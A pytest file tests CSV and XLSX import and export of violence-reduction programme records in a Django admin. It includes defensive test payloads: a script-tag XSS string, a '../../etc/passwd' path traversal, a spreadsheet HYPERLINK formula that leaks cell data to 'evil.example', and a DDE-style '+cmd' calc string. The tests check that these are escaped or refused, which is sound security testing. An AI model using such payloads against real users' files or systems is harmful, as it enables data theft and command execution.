"""Import and export of interventions from the admin, as an editor or curator would use it."""

import csv
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse

from interventions.models import Intervention, PublicationState, Theme
from interventions.resources import InterventionResource
from tests.factories import make_intervention, make_source

pytestmark = pytest.mark.django_db

IMPORT = reverse("admin:interventions_intervention_import")
PROCESS = reverse("admin:interventions_intervention_process_import")
EXPORT = reverse("admin:interventions_intervention_export")
CSV_FORMAT, XLSX_FORMAT = "0", "1"

HEADERS = ["slug", "name", "summary", "themes", "forces", "sources", "status", "age_min"]


def csv_bytes(rows, headers=HEADERS):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode()


def xlsx_bytes(rows, headers=HEADERS):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, content, name="entries.csv", file_format=CSV_FORMAT, url=IMPORT):
    return client.post(
        url,
        {
            "resource": "0",
            "format": file_format,
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def problems(response):
    """The error table as (row, column, problem) triples."""
    content = re.sub(r"\s+", " ", response.content.decode())
    return re.findall(r'<th scope="row">Row (\d+)</th> <td>([^<]*)</td> <td>([^<]*)</td>', content)


def confirm(client, preview, url=PROCESS):
    assert preview.context.get("confirm_form") is not None, problems(preview) or re.findall(
        r'<ul class="errorlist">(.*?)</ul>', preview.content.decode(), re.S
    )
    return client.post(url, preview.context["confirm_form"].initial, follow=True)


@pytest.fixture
def source():
    return make_source(slug="college-vvcp-interventions")


VALID_ROWS = [
    [
        "operation-deter",
        "Operation Deter",
        "Charges adults found carrying a knife.",
        "knife-crime",
        "hampshire, dorset",
        "college-vvcp-interventions",
        "active",
        "18",
    ],
    [
        "cirv",
        "Community Initiative to Reduce Violence",
        "A focused-deterrence programme.",
        "knife-crime, county-lines",
        "",
        "college-vvcp-interventions",
        "ended",
        "",
    ],
]


def test_a_valid_csv_is_previewed_then_imported_as_drafts(editor_client, editor, source):
    preview = upload(editor_client, csv_bytes(VALID_ROWS))
    assert preview.status_code == 200
    assert "Operation Deter" in preview.content.decode()
    assert not Intervention.objects.exists(), "the preview saves nothing"

    response = confirm(editor_client, preview)

    assert "Import finished: 2 new" in response.content.decode()
    deter = Intervention.objects.get(slug="operation-deter")
    assert deter.publication_state == PublicationState.DRAFT
    assert deter.age_min == 18
    assert {force.slug for force in deter.forces.all()} == {"hampshire", "dorset"}
    assert list(deter.sources.all()) == [source]
    cirv = Intervention.objects.get(slug="cirv")
    assert {theme.slug for theme in cirv.themes.all()} == {"knife-crime", "county-lines"}
    record = deter.history.get()
    assert record.history_user == editor
    assert record.history_change_reason == "Imported from entries.csv"


def test_a_valid_xlsx_workbook_is_imported(curator_client, source):
    rows = [[*VALID_ROWS[0][:7], 18], VALID_ROWS[1]]
    preview = upload(curator_client, xlsx_bytes(rows), "entries.xlsx", XLSX_FORMAT)
    confirm(curator_client, preview)
    assert Intervention.objects.get(slug="operation-deter").age_min == 18
    assert Intervention.objects.count() == 2


def test_a_bad_row_saves_nothing_and_names_its_row_and_column(editor_client, source):
    rows = [
        VALID_ROWS[0],
        ["bad-entry", "Bad entry", "", "no-such-theme", "", "", "active", "young"],
    ]
    response = upload(editor_client, csv_bytes(rows))
    content = response.content.decode()

    assert response.context.get("confirm_form") is None
    assert "Nothing was imported: 1 row needs correcting" in content
    assert set(problems(response)) == {
        ("2", "themes", "No theme has the slug “no-such-theme”."),
        ("2", "summary", "This field cannot be blank."),
        ("2", "age_min", "“young” is not a number."),
    }
    assert not Intervention.objects.exists()


def test_an_import_that_stops_passing_its_checks_before_confirmation_saves_nothing(
    curator_client, source
):
    preview = upload(curator_client, csv_bytes(VALID_ROWS))
    Theme.objects.filter(slug="county-lines").delete()

    response = confirm(curator_client, preview)

    content = response.content.decode()
    assert "Nothing was imported" in content
    assert "county-lines" in content
    assert not Intervention.objects.exists()


def test_an_editor_importing_entries_marked_published_gets_drafts(editor_client, source):
    headers = [*HEADERS, "publication_state", "published_at"]
    rows = [[*row, "published", "2024-01-01 10:00:00"] for row in VALID_ROWS]
    confirm(editor_client, upload(editor_client, csv_bytes(rows, headers)))
    assert Intervention.objects.count() == 2
    for entry in Intervention.objects.all():
        assert entry.publication_state == PublicationState.DRAFT
        assert entry.published_at is None


def test_importing_changes_to_a_published_entry_keeps_it_published(curator_client, source):
    entry = make_intervention(slug="operation-deter", name="Old name")
    published_at = entry.published_at
    headers = [*HEADERS, "publication_state"]
    rows = [[*VALID_ROWS[0], "draft"]]
    response = confirm(curator_client, upload(curator_client, csv_bytes(rows, headers)))
    assert "1 updated" in response.content.decode()
    entry.refresh_from_db()
    assert entry.name == "Operation Deter"
    assert entry.is_published
    assert entry.published_at == published_at


def test_reimporting_an_unchanged_file_changes_nothing(curator_client, source):
    confirm(curator_client, upload(curator_client, csv_bytes(VALID_ROWS)))
    response = confirm(curator_client, upload(curator_client, csv_bytes(VALID_ROWS)))
    assert "0 new, 0 updated, 0 deleted and 2 skipped" in response.content.decode()
    assert Intervention.history.count() == 2


# Hostile and malformed files


@override_settings(CATALOGUE_IMPORT_MAX_BYTES=1024)
def test_an_oversized_file_is_refused_with_a_message(editor_client, source):
    rows = VALID_ROWS * 20
    response = upload(editor_client, csv_bytes(rows))
    assert response.status_code == 200
    content = response.content.decode().replace("\xa0", " ")
    assert "the largest file accepted is 1.0 KB" in content
    assert not Intervention.objects.exists()


@override_settings(CATALOGUE_IMPORT_MAX_ROWS=1)
def test_a_file_with_too_many_rows_is_refused_with_a_message(editor_client, source):
    response = upload(editor_client, csv_bytes(VALID_ROWS))
    assert "import at most 1 rows at a time" in response.content.decode()
    assert not Intervention.objects.exists()


def test_a_picture_renamed_to_csv_gets_a_message_not_an_error_page(editor_client):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\xff\xfe"
    response = upload(editor_client, png, "photo.csv")
    assert response.status_code == 200
    assert "This file could not be read as CSV" in response.content.decode()


def test_a_csv_file_sent_as_xlsx_gets_a_message(editor_client):
    response = upload(editor_client, csv_bytes(VALID_ROWS), "entries.xlsx", XLSX_FORMAT)
    assert response.status_code == 200
    assert "This file could not be read as XLSX" in response.content.decode()


def test_a_file_whose_name_does_not_match_the_format_chosen_gets_a_message(editor_client):
    response = upload(editor_client, csv_bytes(VALID_ROWS), "entries.csv", XLSX_FORMAT)
    assert "The file name ends in “.csv” but the format chosen is XLSX" in (
        response.content.decode()
    )


def test_a_file_without_a_slug_column_says_which_column_is_missing(editor_client):
    response = upload(editor_client, csv_bytes([["Operation Deter"]], headers=["name"]))
    content = response.content.decode()
    assert response.status_code == 200
    assert "not present in the file headers: slug" in content
    assert "Traceback" not in content
    assert not Intervention.objects.exists()


def test_an_empty_file_gets_a_message(editor_client):
    response = upload(editor_client, b"")
    assert response.status_code == 200
    assert "The submitted file is empty." in response.content.decode()


def test_markup_in_a_cell_is_shown_as_text_in_the_preview(editor_client, source):
    rows = [["xss", "<script>alert(1)</script>", "Summary.", "", "", "", "active", ""]]
    content = upload(editor_client, csv_bytes(rows)).content.decode()
    assert "<script>alert(1)</script>" not in content
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content


def test_a_tampered_confirmation_cannot_name_another_file(editor_client, source):
    response = editor_client.post(
        PROCESS,
        {
            "import_file_name": "../../etc/passwd",
            "original_file_name": "passwd.csv",
            "format": CSV_FORMAT,
            "resource": "0",
        },
        follow=True,
    )
    assert response.status_code == 200
    assert "This import has expired. Upload the file again." in response.content.decode()
    assert not Intervention.objects.exists()


def test_a_confirmation_sent_twice_imports_once_and_then_says_it_expired(editor_client, source):
    preview = upload(editor_client, csv_bytes(VALID_ROWS))
    confirm(editor_client, preview)
    again = confirm(editor_client, preview)
    assert "This import has expired" in again.content.decode()
    assert Intervention.objects.count() == 2


def test_a_formula_in_a_cell_is_imported_as_the_text_typed(editor_client, source):
    rows = [["formula", "'=SUM(1,2)", "Summary.", "", "", "", "active", ""]]
    confirm(editor_client, upload(editor_client, csv_bytes(rows)))
    assert Intervention.objects.get(slug="formula").name == "=SUM(1,2)"


# Who may import and export


def test_staff_without_the_add_and_change_permissions_cannot_import(staff_user):
    client = Client()
    client.force_login(staff_user)
    assert client.get(IMPORT).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_the_import_and_export_buttons_show_for_editors(editor_client):
    content = editor_client.get(
        reverse("admin:interventions_intervention_changelist")
    ).content.decode()
    assert IMPORT in content
    assert EXPORT in content


# Export


def export(client, file_format=CSV_FORMAT):
    data = {"format": file_format, "resource": "0"}
    for field in InterventionResource().get_export_order():
        data[f"interventionresource_{field}"] = "on"
    return client.post(EXPORT, data)


def exported_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_exported_csv_escapes_formula_injection(curator_client):
    make_intervention(name=HOSTILE_NAME, summary="+cmd|' /C calc'!A0", target_group="@SUM(1)")
    response = export(curator_client)
    assert response["Content-Type"].startswith("text/csv")
    [row] = exported_rows(response)
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["summary"].startswith("'+cmd")
    assert row["target_group"] == "'@SUM(1)"


def test_exported_xlsx_holds_formulas_as_plain_text(curator_client):
    make_intervention(name=HOSTILE_NAME)
    response = export(curator_client, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    name_cell = sheet.cell(row=2, column=headers.index("name") + 1)
    assert name_cell.data_type == "s"
    assert name_cell.value == "'" + HOSTILE_NAME


def test_an_export_can_be_imported_again_unchanged(curator_client, source):
    entry = make_intervention(name=HOSTILE_NAME, slug="hostile")
    entry.sources.add(source)
    exported = export(curator_client).content
    response = confirm(curator_client, upload(curator_client, exported))
    assert "1 skipped" in response.content.decode()
    assert Intervention.objects.get(slug="hostile").name == HOSTILE_NAME


def test_export_names_related_rows_by_slug_and_includes_the_state(curator_client):
    knife = Theme.objects.get(slug="knife-crime")
    make_intervention(slug="deter", themes=[knife], state=PublicationState.IN_REVIEW)
    [row] = exported_rows(export(curator_client))
    assert row["slug"] == "deter"
    assert row["themes"] == "knife-crime"
    assert row["publication_state"] == "in-review"


def test_export_takes_the_same_number_of_queries_for_many_entries(
    curator_client, django_assert_max_num_queries
):
    knife = Theme.objects.get(slug="knife-crime")
    make_intervention(themes=[knife])
    with django_assert_max_num_queries(20) as few:
        export(curator_client)
    for _ in range(15):
        make_intervention(themes=[knife])
    with django_assert_max_num_queries(len(few.captured_queries)):
        export(curator_client)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("format", "9", "Unknown file format"),
        ("format", "csv", "Unknown file format"),
        ("resource", "7", "Unknown kind of row"),
    ],
)
def test_a_tampered_format_or_resource_at_confirmation_gets_a_message(
    editor_client, source, field, value, message
):
    preview = upload(editor_client, csv_bytes(VALID_ROWS))
    data = {**preview.context["confirm_form"].initial, field: value}
    response = editor_client.post(PROCESS, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Intervention.objects.exists()


@pytest.mark.parametrize("value", ["9", "x"])
def test_a_tampered_format_on_the_upload_form_gets_a_message(editor_client, value):
    data = {
        "resource": "0",
        "format": value,
        "import_file": SimpleUploadedFile("a.csv", b"slug\nx\n"),
    }
    response = editor_client.post(IMPORT, data)
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()


def test_a_tampered_resource_on_the_upload_form_previews_nothing(editor_client):
    data = {
        "resource": "7",
        "format": CSV_FORMAT,
        "import_file": SimpleUploadedFile("a.csv", b"slug\nx\n"),
    }
    response = editor_client.post(IMPORT, data)
    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
